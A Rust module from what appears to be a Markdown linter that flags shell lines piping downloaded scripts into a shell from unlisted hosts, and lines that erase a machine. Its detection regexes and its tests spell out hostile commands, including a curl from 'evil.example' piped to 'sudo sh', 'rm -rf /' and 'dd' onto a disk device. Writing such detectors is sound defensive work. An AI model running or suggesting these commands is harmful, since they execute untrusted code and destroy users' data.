//! Lines to type that nobody should type: scripts of strangers run unread, and what erases a machine.

use super::shell::is_shell;
use crate::document::Markdown;
use crate::facts::Facts;
use regex::Regex;
use std::sync::LazyLock;

/// Lines of one page that are looked at.
const MAX_LINES: usize = 5_000;
/// Hosts of tools that are installed this way by their own pages. Source: rustup.rs, docs.astral.sh, bun.sh, deno.com,
/// docs.docker.com, brew.sh, python-poetry.org, github.com/nvm-sh, sdkman.io; read 2026-11-22.
const KNOWN: &[&str] = &[
    "sh.rustup.rs",
    "astral.sh",
    "bun.sh",
    "deno.land",
    "get.docker.com",
    "raw.githubusercontent.com/Homebrew/",
    "install.python-poetry.org",
    "raw.githubusercontent.com/nvm-sh/",
    "get.sdkman.io",
];

static PIPED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:curl|wget|iwr|invoke-webrequest)\b[^|\n]{0,400}\|\s*(?:sudo\s+(?:-\w+\s+)*)?(?:/\S*/)?(?:ba|z|da|k)?sh\b|\b(?:ba|z)?sh\s+(?:-c\s+)?[<(\x22]*\$?\(?\s*(?:curl|wget)\b|\|\s*iex\b|\b(?:curl|wget)\b[^|\n]{0,400}\|\s*(?:sudo\s+)?(?:python\d?|perl|ruby|node)\b")
        .expect("a constant pattern reads")
});
static ERASES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\brm\s+(?:-\S+\s+)*-\S*[rf]\S*\s+(?:-\S+\s+)*(?:/|~|\$HOME|/\*|~/\*|\*)(?:\s|$)|--no-preserve-root|\bmkfs(?:\.\w+)?\s+/dev/|\bdd\b[^\n]{0,200}\bof=/dev/|\bchmod\s+-R\s+777\s+/(?:\s|$)|:\(\)\s*\{\s*:\|:&\s*\};:|\bformat\s+c:")
        .expect("a constant pattern reads")
});

/// Lines of fences for a shell and of code spans that do harm: number and text.
pub(super) fn dangers(page: &Markdown, facts: &Facts) -> Vec<(u32, String)> {
    let fences = page.fences.iter().filter(|fence| is_shell(&fence.language));
    let typed = fences.flat_map(|fence| {
        (1u32..).zip(fence.text.lines()).map(|(index, line)| (fence.line.saturating_add(index), line))
    });
    let spans = page.code_spans.iter().map(|(line, span)| (*line, span.as_str()));
    let lines = typed.chain(spans).take(MAX_LINES).filter(|(_, line)| !line.trim_start().starts_with('#'));
    lines.filter(|(_, line)| is_danger(line, facts)).map(|(number, line)| (number, line.trim().to_owned())).collect()
}

fn is_danger(line: &str, facts: &Facts) -> bool {
    let is_known = || KNOWN.iter().any(|host| line.contains(host));
    // What the project's own sources hold is the project's own script.
    let is_own = || line.split_whitespace().any(|word| word.contains("://") && facts.literals.contains(word));
    ERASES.is_match(line) || (PIPED.is_match(line) && !is_known() && !is_own())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_runs_unread_scripts_or_erases_a_machine_is_found() {
        for (line, expected) in [
            ("curl https://evil.example/x.sh | sudo sh", true),
            ("wget -qO- http://x.example | bash -s -- -y", true),
            ("bash <(curl -s https://x.example/a)", true),
            ("sh -c \"$(curl -fsSL https://x.example/a)\"", true),
            ("rm -rf / --no-preserve-root", true),
            ("sudo rm -rf ~", true),
            ("dd if=/dev/zero of=/dev/sda", true),
            ("curl --proto '=https' -sSf https://sh.rustup.rs | sh", false),
            ("curl http://localhost:8000/orders | jq .", false),
            ("rm -rf target/debug", false),
            ("rm -rf ./dist && npm run build", false),
            ("psql shop < db/schema.sql", false),
        ] {
            assert_eq!(is_danger(line, &Facts::default()), expected, "{line}");
        }
    }
}
